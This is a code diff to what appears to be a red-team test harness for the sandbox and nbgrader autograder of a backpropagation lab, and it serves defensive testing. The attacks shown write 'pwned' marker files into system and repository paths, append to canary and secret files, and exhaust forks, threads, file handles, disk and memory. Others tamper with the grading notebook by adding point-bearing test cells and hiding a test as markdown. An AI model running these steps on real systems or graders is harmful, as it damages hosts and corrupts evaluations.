@@ -214,6 +214,26 @@ def _rt_reference(name="dense_backward"):
     return types.FunctionType(f.__code__, f.__globals__, f.__name__, f.__defaults__, f.__closure__)
 
 
+_rt_notes = []
+
+
+def _rt_note(*parts):
+    """Keep a line for the next answer cell's output (prints inside a graded call are discarded)."""
+    _rt_notes.append(" ".join(str(p) for p in parts))
+
+
+def _rt_flush_notes(info=None):
+    if _rt_notes and "check(" not in (getattr(info, "raw_cell", "") or ""):
+        print("RT-NOTE", " / ".join(_rt_notes))
+        del _rt_notes[:]
+
+
+try:
+    get_ipython().events.register("pre_run_cell", _rt_flush_notes)
+except NameError:
+    pass
+
+
 def _rt_once(tag):
     key = "_rt_fired_" + tag
     if globals().get(key):
@@ -358,7 +378,9 @@ def _():
             _rt_report("created", path)
         _name = "bplab-pwned-" + _RT["run"] + "." + _RT["slug"]
         _ws = _RT["workspace"]
-        for _d in (_ws, _ws + "/autograded", _ws + "/.bplab", _RT["submissions"], _rt_os.path.dirname(_RT["beside"]), "/tmp"):
+        # /tmp counts only when it is the host's (the evidence folder is there): the sandbox's own is fine
+        _host_tmp = ["/tmp"] if _rt_os.path.isdir(_RT["evidence"]) else []
+        for _d in [_ws, _ws + "/autograded", _ws + "/.bplab", _RT["submissions"], _rt_os.path.dirname(_RT["beside"])] + _host_tmp:
             _rt_create(_d + "/" + _name, keep=True)
         for _d in (_RT["repo"], _RT["repo"] + "/solutions/04-backprop", _RT["repo"] + "/.git", "/root", "/home", "/etc",
                    _rt_os.path.dirname(_rt_os.path.dirname(_rt_os.__file__)), sysconfig.get_paths()["purelib"],
@@ -367,7 +389,8 @@ def _():
         _rt_create(_RT["submissions"] + "/zz-" + _name + ".ipynb", keep=True)
         for _p in (_ws + "/canary.txt", _RT["beside"], _RT["host_canary"], _ws + "/.bplab-secret"):
             try:
-                with open(_p, "a") as _f:
+                with open(_p, "r+") as _f:        # never creates: only the host's files count
+                    _f.seek(0, 2)
                     _f.write("\npwned by " + _RT["slug"])
                 _rt_report("appended", _p)
             except OSError as err:
@@ -712,7 +735,7 @@ def _():
                         _rt_os._exit(0)
                 _n += 1
         except OSError as err:
-            print("fork stopped after", _n, type(err).__name__)
+            _rt_note("fork stopped after", _n, type(err).__name__)
 '''))
 
 
@@ -729,13 +752,13 @@ def _():
                 threading.Thread(target=time.sleep, args=(10000,), daemon=True).start()
                 _n += 1
         except (RuntimeError, MemoryError) as err:
-            print("threads stopped after", _n, err)
+            _rt_note("threads stopped after", _n, err)
         _held = globals().setdefault("_rt_held", [])
         try:
             for _ in range(100000):
                 _held.append(_rt_os.open("/dev/null", _rt_os.O_RDONLY))
         except OSError as err:
-            print("open stopped after", len(_held), type(err).__name__)
+            _rt_note("open stopped after", len(_held), type(err).__name__)
 '''))
 
 
@@ -760,8 +783,8 @@ def _():
                             _f.write(_chunk)
                             _mib += 1
             except OSError as err:
-                print("disk", _real, type(err).__name__)
-            print("wrote", _mib, "MiB into", _real)
+                _rt_note("disk", _real, type(err).__name__)
+            _rt_note("wrote", _mib, "MiB into", _real)
 '''))
 
 
@@ -815,15 +838,15 @@ def _():
                 _blocks.append(b"\x01" * (100 << 20))
         except MemoryError:
             pass
-        print("held", len(_blocks) * 100, "MiB")
+        _rt_note("held", len(_blocks) * 100, "MiB")
         del _blocks
         for _size in (50 << 30, 3 << 30):
             try:
                 _a = np.ones(_size // 8)
-                print("allocated", _size >> 30, "GiB")
+                _rt_note("allocated", _size >> 30, "GiB")
                 del _a
             except MemoryError:
-                print("MemoryError at", _size >> 30, "GiB")
+                _rt_note("MemoryError at", _size >> 30, "GiB")
 '''))
 
 
@@ -843,7 +866,7 @@ def _():
                 subprocess.Popen([sys.executable, "-c", _code, _RT["marker"] + "-burner"], stdin=subprocess.DEVNULL,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
             except OSError as err:
-                print("burner", err)
+                _rt_note("burner", err)
     while True:
         pass
 '''))
@@ -1104,7 +1127,7 @@ def _():
         try:
             _rt_forge()
         except Exception as err:
-            print("forge", type(err).__name__, err)
+            _rt_note("forge", type(err).__name__, err)
 '''))
 
 
@@ -1284,13 +1307,26 @@ def _():
 
 
 def _add_graded_cells(nb, ctx):
-    from nbformat.v4 import new_code_cell, new_markdown_cell
+    from nbformat.v4 import new_code_cell
     cells = _cells_by_id(nb)
     cells["dense_backward"].metadata["nbgrader"].update(grade=True, points=100)
     position = nb.cells.index(cells["test_dense_backward_hidden"]) + 1
     bonus = new_code_cell('check("dense_backward", dense_backward)', metadata={"nbgrader": {
         "grade": True, "solution": False, "locked": True, "points": 50, "schema_version": 3, "grade_id": "test_bonus"}})
     nb.cells.insert(position, bonus)
+    return nb
+
+
+@attack("graded-cells-added", "nbgrader's cells: a 50-point test cell added, the answer cell made a 100-point graded cell",
+        checks=JSON_CHECKS, flagged=True)
+def _():
+    """Adds a graded test cell worth 50 points and turns the dense_backward answer cell into a 100-point graded cell."""
+    return dict(mutate=_add_graded_cells)
+
+
+def _retype_and_duplicate(nb, ctx):
+    from nbformat.v4 import new_markdown_cell
+    cells = _cells_by_id(nb)
     hidden = cells["test_dense_backward_hidden"]
     nb.cells[nb.cells.index(hidden)] = new_markdown_cell(hidden.source, metadata=copy.deepcopy(hidden.metadata))
     visible = cells["test_update_parameters"]
@@ -1300,11 +1336,11 @@ def _add_graded_cells(nb, ctx):
     return nb
 
 
-@attack("graded-cells-added-retyped-duplicated", "nbgrader's cells: a 50-point test added, the answer cell graded, "
-        "a hidden test turned markdown, a test duplicated", checks=JSON_CHECKS, flagged=True)
+@attack("test-cells-retyped-duplicated", "nbgrader's cells: a hidden test turned markdown, a test cell duplicated",
+        checks=JSON_CHECKS, flagged=True)
 def _():
-    """Adds a 50-point test cell, makes the answer cell a 100-point graded cell, retypes the hidden test, duplicates another."""
-    return dict(mutate=_add_graded_cells)
+    """Turns the hidden dense_backward test into a markdown cell and duplicates the update_parameters test."""
+    return dict(mutate=_retype_and_duplicate)
 
 
 def _prefilled_outputs(nb, ctx):
